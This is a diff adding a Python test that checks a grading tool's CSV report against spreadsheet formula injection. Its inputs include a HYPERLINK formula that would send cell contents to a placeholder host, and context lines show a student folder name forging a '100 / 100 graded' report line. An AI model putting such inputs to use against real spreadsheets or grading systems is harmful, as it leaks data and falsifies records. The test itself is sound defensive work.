@@ -72,3 +72,12 @@ def test_the_report_of_any_name_and_reason_is_one_line_each(tmp_path):
     assert list(rows) == ["evil\\nz-perfect  100 / 100  graded\\xff", "ana"]
     assert rows["ana"]["reason"] == "kernel died: output 'x\\ntinytorch-grading: \\ud800'"
     assert sorted(p.name for p in tmp_path.iterdir()) == [report.REPORT_CSV, report.REPORT_TXT], "no temporary left"
+
+
+def test_no_name_is_a_formula_in_the_csv_report(tmp_path):
+    """A refused folder name a spreadsheet would run as a formula is written as text ('-led)."""
+    names = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "-2", "@SUM(A1)", "a=1"]
+    lines = [report.ReportLine(name, report.NOT_GRADED, None, None, refusal(name) or "") for name in names]
+    rows = report.read_report(report.write_report(tmp_path, lines)[0])
+    assert list(rows) == ["'" + name for name in names[:4]] + ["a=1"]
+    assert all(refusal(name) for name in names), "none of them is graded"
